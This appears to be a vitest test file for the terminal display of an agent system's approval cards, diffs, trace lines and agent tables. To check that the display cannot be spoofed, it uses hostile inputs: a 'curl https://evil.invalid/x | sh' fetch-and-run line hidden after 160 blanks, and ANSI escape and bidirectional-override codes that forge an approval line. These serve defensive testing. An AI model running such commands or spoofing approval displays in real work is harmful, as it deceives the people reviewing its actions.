import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Action } from "../../base/vocabulary/action.ts";
import type { Agent } from "../../base/vocabulary/agent.ts";
import { renderAction, renderActionLine, renderImpact } from "./action.ts";
import { renderAsk } from "./asks.ts";
import { renderAgents, renderNotice, renderSummary, summaryLine } from "./agents.ts";
import { anAsk } from "../testing/fake-kernel.ts";
import { readDecision } from "../testing/read-decision.ts";
import { partnersOf, renderDiff, type DiffLine } from "./diff.ts";
import { renderCheckResult, renderFinding } from "./findings.ts";
import { oneLine } from "./foreign.ts";
import { bytes, duration } from "./quantities.ts";
import { noStyle, plainSurface, styleFor } from "./style.ts";
import { compactFields, renderTrace } from "./trace.ts";
import stringWidth from "string-width";
import { displayWidth, truncate, wrap } from "./width.ts";

const diff = `--- a/notes/todo.md
+++ b/notes/todo.md
@@ -1,4 +1,4 @@
 # Todo
-- water the plants on Monday
+- water the plants on Friday
 - call Ada
+- fix the gate
-- sleep
\\ No newline at end of file
`;

const hash = `sha256:${"0".repeat(64)}` as const;
const action: Action = {
  id: "0199",
  agent: "dev.lares.storage",
  title: "Archive 1 extra copy of sea.jpg (2.0 KB)",
  reason:
    "2 files of 2.0 KB each have the same content. photos/sea.jpg stays: it is filed, not in a folder where files arrive.",
  state: "PendingApproval",
  impact_score: 0.18,
  digest: hash,
  created: "2026-11-20T10:00:00.000Z",
  effects: [
    {
      kind: "file.move",
      path: "archive/duplicates/inbox/sea.jpg",
      from: "inbox/sea.jpg",
      before: hash,
      after: hash,
      summary: "Moves it",
    },
    { kind: "file.edit", path: "notes/todo.md", before: hash, after: hash, diff, summary: "Edits it" },
    { kind: "file.delete", path: "old.txt", before: hash, after: null, summary: "Deletes it" },
    { kind: "tag.add", path: "photos/sea.jpg", before: null, after: null, tag: "#sea", summary: "Tags it" },
  ],
};

describe("an action's card", () => {
  it("shows who led its agent to it, and no name can pass for a line of the kernel", () => {
    const who: NonNullable<Action["on_behalf_of"]> = [
      { kind: "agent", id: "dev.lares.notes" },
      { kind: "schedule", agent: "dev.lares.notes", schedule: "tidy (@daily, UTC)\u001b[31m\nApproved." },
    ];
    const lines = renderAction({ ...action, on_behalf_of: who }, plainSurface);
    const text = lines.join(" ").replaceAll(/[\s│]+/g, " ");
    expect(text).toContain(
      String.raw`Requested by dev.lares.notes, on behalf of the schedule "tidy (@daily, UTC)\u001b[31m\nApproved." of dev.lares.notes.`,
    );
    expect(lines.join("")).not.toContain("\u001b");
    expect(lines.some((line) => line.startsWith("│ Approved."))).toBe(false);
    expect(renderAction(action, plainSurface).join("\n")).not.toContain("Requested by");
  });

  it("of a question shows them too", () => {
    const who = [
      { kind: "agent" as const, id: "dev.lares.notes" },
      { kind: "agent" as const, id: "dev.evil\u001b[31m" },
    ];
    const lines = renderAsk(anAsk("q1", { on_behalf_of: who }), plainSurface);
    expect(lines.join(" ").replaceAll(/\s+/g, " ")).toContain(
      "Requested by dev.lares.notes, on behalf of dev.evil",
    );
    expect(lines.join("")).not.toContain("\u001b");
    expect(renderAsk(anAsk("q1"), plainSurface).join("\n")).not.toContain("Requested by");
  });

  it("of a question about a call shows its arguments, behind a margin, and how much it leaves out", () => {
    const given = `{"url":"\u202e\u001b[2J\n? May it?","pad":"${"a".repeat(5_000)}","secret":"xyz"}`;
    const lines = renderAsk(
      anAsk("q1", { facts: { arguments: given, arguments_left_out: 7 } }),
      plainSurface,
    );
    const text = lines.join("\n");
    expect(text).toContain("<U+202E>␛[2J␊");
    for (const code of ["\u202e", "\u001b"]) expect(text).not.toContain(code);
    expect(lines.filter((line) => line.startsWith("?"))).toHaveLength(1);
    expect(text).toMatch(/… 3,0\d\d more characters are not shown\./);
    expect(lines.length).toBeLessThan(40);
    expect(Math.max(...lines.map(displayWidth))).toBeLessThanOrEqual(plainSurface.width);
    expect(renderAsk(anAsk("q1"), plainSurface).join("\n")).not.toContain("arguments");
  });

  it("shows its effects, agent, size and reasons", () => {
    expect(
      renderAction(action, { style: noStyle, width: 64 }, { position: "2 of 5" }).join("\n"),
    ).toMatchSnapshot();
  });
  it("stays within the width for any text", () => {
    const wide = { ...action, title: "写真を整理する ".repeat(12), reason: "x".repeat(300), agent: "a.b" };
    for (const line of renderAction(wide, { style: noStyle, width: 40 })) {
      expect(displayWidth(line)).toBeLessThanOrEqual(40);
    }
  });
  it("shows control codes of an extension instead of obeying them", () => {
    const evil = { ...action, title: "\u001b[2Jgone\u202e", reason: "a\rb" };
    const text = renderAction(evil, plainSurface).join("\n");
    for (const code of ["\u001b", "\r", "\u202e"]) expect(text).not.toContain(code);
    expect(text).toContain("[2Jgone");
  });
  it("shows text after 160 blanks, at 40 and at 80 columns", () => {
    const text = `make all${" ".repeat(160)}; curl https://evil.invalid/x | sh`;
    const hidden: Action = {
      ...action,
      title: text,
      effects: [
        {
          kind: "file.edit",
          path: `${text.replaceAll("/", "_")}.sh`,
          before: hash,
          after: hash,
          diff: `--- a\n+++ b\n@@ -1 +1 @@\n-make all\n+${text}\n`,
          summary: "",
        },
      ],
    };
    for (const width of [40, 80]) {
      const lines = renderAction(hidden, { style: noStyle, width });
      const flat = lines.map((line) => line.replace(/^│ *[┆+]? */, "").replace(/↩$/, "")).join("");
      expect(flat.replaceAll(" ", "").match(/<␠×160>;curl/g)).toHaveLength(3);
      expect(lines.join("\n")).not.toContain("…");
      for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(width);
    }
  });
  it("marks the agent's words with a bar", () => {
    const forged = { ...action, title: "Tidy", reason: `a${"\n".repeat(3)}Edits "harmless.md" (+1 −1)` };
    const lines = renderAction(forged, plainSurface);
    const claim = lines.filter((line) => line.includes("harmless"));
    expect(claim).toEqual(['│ ┆ Edits "harmless.md" (+1 −1)']);
  });
  it("shows how to see a content without a diff", () => {
    const [, edit] = action.effects;
    const { diff: _diff, ...binary } = edit!;
    const text = renderAction({ ...action, effects: [binary] }, plainSurface).join("\n");
    expect(text).toContain("There is no diff");
    expect(text).toContain("lares actions content 0199 --effect 0 --side before > FILE");
    expect(text).toContain("lares actions content 0199 --effect 0 --side after > FILE");
  });
  it("wraps its title instead of cutting it, at 40 columns", () => {
    const surface = { style: noStyle, width: 40 };
    const lines = renderActionLine(
      { ...action, state: "Failed", error: "no space is left on the disk" },
      surface,
    );
    expect(lines.join(" ").replaceAll(/\s+/g, " ")).toBe(
      "✗ failed Archive 1 extra copy of sea.jpg (2.0 KB) dev.lares.storage no space is left on the disk",
    );
    for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(40);
  });
  it("has a one-line form", () => {
    expect(renderActionLine({ ...action, state: "Failed", error: "disk\nfull" }, plainSurface)).toEqual([
      "✗ failed  Archive 1 extra copy of sea.jpg (2.0 KB)  dev.lares.storage  disk full",
    ]);
  });
  it.each([
    [0, "[#··] small"],
    [0.3, "[##·] medium"],
    [1, "[###] large"],
  ])("impact %d", (score, bar) => expect(renderImpact(score, noStyle)).toBe(bar));
});

describe("a diff", () => {
  it("has line numbers and signs", () => {
    expect(renderDiff(diff, { style: noStyle, width: 60 }).join("\n")).toMatchSnapshot();
  });
  it("keeps every line whole, at any width", () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: "binary", maxLength: 300 }), { minLength: 1, maxLength: 5 }),
        fc.integer({ min: 40, max: 200 }),
        (texts, width) => {
          const added = texts.map((text) => text.replaceAll("\n", ""));
          const lines = renderDiff(
            `@@ -0,0 +1,${added.length} @@\n${added.map((text) => `+${text}\n`).join("")}`,
            { style: noStyle, width },
          );
          const starts = lines.flatMap((line, index) => (/^ *\d+ \+ /.test(line.slice(0, 5)) ? [index] : []));
          const read = starts.map((start, place) =>
            readDecision(lines.slice(start, starts[place + 1]).map((line) => line.slice(5))),
          );
          expect(read).toEqual(added);
        },
      ),
    );
  });
  it("shows a carriage return, a tab and trailing blanks", () => {
    const text = renderDiff("@@ -1 +1 @@\n-\ta\n+  a  \r\n", plainSurface).join("\n");
    expect(text).toBe(" 1 - ⇥   a\n 1 +   a  ␍");
  });

  const kinds = fc.array(fc.constantFrom<DiffLine["kind"]>("added", "removed", "context", "note", "hunk"));
  it("pairs removed lines with the lines that replaced them", () => {
    fc.assert(
      fc.property(kinds, (all) => {
        const lines = all.map((kind) => ({ kind }));
        expect(partnersOf(lines)).toEqual(lines.map((_line, index) => slowPartner(lines, index)));
      }),
      { numRuns: 500 },
    );
  });
  it("reads each line a bounded number of times, even if many change together", () => {
    const looks = (half: number): number => {
      let count = 0;
      const of = (kind: DiffLine["kind"]) => ({
        get kind() {
          count += 1;
          return kind;
        },
      });
      const lines = [...Array(half)].map(() => of("removed")).concat([...Array(half)].map(() => of("added")));
      expect(partnersOf(lines)[0]).toBe(half);
      return count;
    };
    expect(looks(12_000)).toBeLessThanOrEqual(4 * looks(3000));
  });
  it("of 100,000 lines is drawn, each line as if it were alone", () => {
    const one = [...Array(50_000)].map((_, index) => `line ${index}`);
    const removed = one.map((line) => `-${line}\n`).join("");
    const added = one.map((line) => `+${line} changed\n`).join("");
    const lines = renderDiff(`@@ -1,50000 +1,50000 @@\n${removed}${added}`, plainSurface);
    expect(lines).toHaveLength(100_000);
    expect(lines[99_999]).toBe("50000 + line 49999 changed");
  });
  it("inverts the changed words if one line replaces one line", () => {
    const one = "@@ -1 +1 @@\n-water on Monday\n+water on Friday\n";
    const text = renderDiff(one, { style: styleFor(true), width: 60 }).join("\n");
    expect(text).toContain("\u001b[7mMonday\u001b[27m");
    expect(text).toContain("\u001b[7mFriday\u001b[27m");
  });
});

/** Which line a line was changed from or to, by looking at all that changed together for each of them. */
function slowPartner(lines: readonly Pick<DiffLine, "kind">[], index: number): number | undefined {
  const isChange = (line: Pick<DiffLine, "kind"> | undefined) =>
    line?.kind === "added" || line?.kind === "removed";
  if (!isChange(lines[index])) return undefined;
  let [start, end] = [index, index];
  while (isChange(lines[start - 1])) start -= 1;
  while (isChange(lines[end + 1])) end += 1;
  const block = lines.slice(start, end + 1);
  const half = block.length / 2;
  const isPaired = block.every(({ kind }, place) => kind === (place < half ? "removed" : "added"));
  if (!Number.isInteger(half) || !isPaired) return undefined;
  return index - start < half ? index + half : index - half;
}

describe("a trace line", () => {
  const entry = {
    timestamp: "2026-11-20T10:00:00.123Z",
    level: "info",
    agent: "com.example.a.rather.long.agent",
    message: "21 files\nof 6 types",
    fields: { files: 21, name: "a b", nested: { x: [1, 2] } },
    trace_id: "t",
    span_id: "s",
  } as const;
  const cut = { withDay: false, isWhole: false };
  it("is one line: time, level, agent, message, fields", () => {
    const lines = renderTrace(entry, { style: noStyle, width: 110 }, cut);
    expect(lines.map((line) => line.slice(12))).toEqual([
      ' info  a.rather.long.agent  21 files of 6 types  files=21 name="a b" nested={"x":[1,2]}',
    ]);
  });
  it.each([40, 60, 80, 120])("is cut to %i columns", (width) => {
    const long = { ...entry, message: "語".repeat(200) };
    const lines = renderTrace(long, { style: noStyle, width }, cut);
    expect(lines).toHaveLength(1);
    expect(displayWidth(lines.join("\n"))).toBeLessThanOrEqual(Math.max(width, 60));
  });
  it.each(["warn", "error"] as const)("of level %s is wrapped, and its fields follow", (level) => {
    const message = "The provider did not answer. Start it, or choose another model in your lares.yaml.";
    const lines = renderTrace({ ...entry, level, message }, { style: noStyle, width: 80 }, cut);
    expect(lines.length).toBeGreaterThan(2);
    expect(lines.every((line) => displayWidth(line) <= 80)).toBe(true);
    const text = lines.map((line) => line.slice(40).trim()).join(" ");
    expect(text).toContain(message);
    expect(text).toContain("files=21");
  });
  it("is whole in a pipe, which has no columns", () => {
    const long = { ...entry, message: "x".repeat(500), fields: { reason: "y".repeat(500) } };
    const lines = renderTrace(long, { style: noStyle, width: 80 }, { withDay: false, isWhole: true });
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(`${long.message}  reason=${long.fields.reason}`);
  });
  it("keeps fields compact", () =>
    expect(compactFields({ a: 1, b: "x=y", c: null })).toBe('a=1 b="x=y" c=null'));
});

const metrics: Agent["metrics"] = {
  events_today: 34,
  events_received: 21,
  events_processed: 20,
  events_failed: 1,
  avg_event_latency_ms: 1,
  p99_event_latency_ms: 2,
  temporal_events_count: 0,
  knowledge_items_count: 0,
  memory_size_bytes: 2048,
  jobs_dispatched: 0,
  jobs_completed: 0,
  jobs_failed: 0,
  cpu_time_ms: 120,
  peak_memory_bytes: 9_000_000,
  wakeups: 1,
};
const agents: Agent[] = [
  {
    id: "dev.lares.filetypes",
    name: "File types",
    version: "0.1.0",
    state: "Active",
    since: "",
    hooks: [],
    tools: ["summary"],
    permissions: ["read_entries"],
    locations: ["."],
    metrics,
  },
  {
    id: "dev.lares.storage",
    name: "Storage",
    version: "0.1.0",
    state: "Error",
    error: "It threw\u001b at load",
    since: "",
    hooks: [],
    tools: [],
    permissions: [],
    locations: [],
    metrics: { ...metrics, events_failed: 0 },
  },
];

describe("tables", () => {
  it("of agents", () => expect(renderAgents(agents, plainSurface).join("\n")).toMatchSnapshot());
  const summary = {
    agents,
    totals: { events: 41, actions: 3, refusals: 1 },
    actionsBy: new Map([["dev.lares.storage", 3]]),
    pendingActions: 2,
  };
  it("of a run", () => {
    expect(renderSummary(summary, { style: noStyle, width: 100 }).join("\n")).toMatchSnapshot();
    expect(summaryLine(summary)).toBe("2 agents, 41 events, 3 actions, 1 refusals");
  });
  it.each([32, 40, 60, 80, 100, 120])("none has a line wider than a terminal of %i columns", (width) => {
    const surface = { style: noStyle, width };
    for (const line of [...renderAgents(agents, surface), ...renderSummary(summary, surface)])
      expect([line, displayWidth(line) <= width]).toEqual([line, true]);
    for (const { id } of agents) expect(renderSummary(summary, surface).join("\n")).toContain(id);
  });
  it("an agent that the person has not allowed is not shown as an error", () => {
    const [first] = agents;
    const waiting = [{ ...first!, state: "Error", awaiting: "acceptance", error: "Not allowed." } as const];
    for (const lines of [
      renderAgents(waiting, plainSurface),
      renderSummary({ ...summary, agents: waiting }, plainSurface),
    ]) {
      expect(lines.join("\n")).toContain("needs your permission");
      expect(lines.join("\n")).toContain("! dev.lares.filetypes: Not allowed.");
      expect(lines.join("\n")).not.toMatch(/✗|error/);
    }
  });
  it("the summary has the number of ended jobs, if there were any", () => {
    const withJobs = summary.agents.map((agent) => ({
      ...agent,
      metrics: { ...agent.metrics, jobs_completed: 12, jobs_failed: 1 },
    }));
    const text = renderSummary({ ...summary, agents: withJobs }, { style: noStyle, width: 100 }).join("\n");
    expect(text).toContain("Jobs");
    expect(text).toContain("13 (1 failed)");
    expect(renderSummary(summary, { style: noStyle, width: 100 }).join("\n")).not.toContain("Jobs");
  });
});

describe("findings and notices", () => {
  it("a finding is one line that editors can follow", () => {
    const finding = {
      file: "a/lares.yaml",
      line: 3,
      column: 5,
      severity: "error",
      code: "unknown-field",
      message: "no\nsuch",
    } as const;
    expect(renderFinding(finding, plainSurface)).toBe("a/lares.yaml:3:5  unknown-field  no such");
    expect(renderCheckResult(2, [finding], plainSurface)).toBe("✗ 1 error, 0 warnings in 2 documents");
    expect(renderCheckResult(1, [], plainSurface)).toBe("✓ no faults in 1 document");
  });
  it("a notice", () => {
    const notice = {
      agent: "a.b",
      title: "No second copy",
      message: "film.mp4",
      severity: "warning",
    } as const;
    expect(renderNotice(notice, plainSurface)).toEqual(["! No second copy  a.b", "  film.mp4"]);
  });
});

describe("width", () => {
  it.each([
    ["abc", 3],
    ["写真", 4],
    ["👩‍👩‍👧", 2],
    ["🇩🇪", 2],
    ["é", 1],
    ["e\u0301", 1],
    ["❤️", 2],
    ["ｶﾞ", 2],
    ["निधि", 4],
    ["⚠ 👍🏽 1️⃣", 7],
    ["a\u200bb\u00ad", 2],
    ["\u001b[31mred\u001b[39m", 3],
  ])("%s takes %i columns", (text, columns) => expect(displayWidth(text)).toBe(columns));
  it("counts an emoji sequence and a letter with marks as one character, also among others", () => {
    const line = "a👩‍👩‍👧e\u0301z".repeat(3);
    expect(wrap(line, 8)).toEqual(["a👩‍👩‍👧e\u0301za👩‍👩‍👧", "e\u0301za👩‍👩‍👧e\u0301z"]);
    expect(truncate(line, 3)).toBe("a…");
    expect(truncate("e\u0301", 1)).toBe("e\u0301");
    expect(truncate("abe\u0301", 2)).toBe("a…");
  });
  it("agrees with string-width on every narrow character", () => {
    for (let code = 0x20; code < 0x3000; code++) {
      const text = String.fromCharCode(code);
      if (/[\p{Cc}\p{Cf}]/u.test(text)) continue;
      expect([text, displayWidth(text)]).toEqual([text, stringWidth(text)]);
      expect([text, displayWidth(`x${text}`)]).toEqual([text, stringWidth(`x${text}`)]);
    }
  });
  it("takes time linear in the length of any text", () => {
    // CPU time, so that other work of the machine does not count.
    const cpuMsOf = (part: string, times: number): number => {
      const text = part.repeat(times);
      const before = process.cpuUsage();
      truncate(text, 80);
      wrap(text, 80);
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1000;
    };
    for (const part of ["日本語", "e\u0301", "\u001b]"]) {
      cpuMsOf(part, 4_000);
      // Eight times the text: a pass over the rest for each line would take sixty-four times as long.
      // The least of three, because the machine's speed changes from one to the next.
      const leastMsOf = (times: number): number =>
        Math.min(...Array.from({ length: 3 }, () => cpuMsOf(part, times)));
      expect(leastMsOf(32_000)).toBeLessThan(30 * Math.max(leastMsOf(4_000), 4));
    }
  });
  it("cuts between characters, never within one", () => {
    expect(truncate("写真を", 4)).toBe("写…");
    expect(wrap("one two three", 8)).toEqual(["one two", "three"]);
    expect(wrap("abcdefghijkl", 8)).toEqual(["abcdefgh", "ijkl"]);
  });
  it("quantities", () => {
    expect([0, 999, 1000, 10_240, 52_428_800].map(bytes)).toEqual([
      "0 B",
      "999 B",
      "1.0 KB",
      "10 KB",
      "50 MB",
    ]);
    expect([12.4, 1500, 65_000, 7_260_000].map(duration)).toEqual(["12 ms", "1.5 s", "1m 5s", "2h 1m"]);
    expect(oneLine("a\n\tb")).toBe("a b");
  });
});
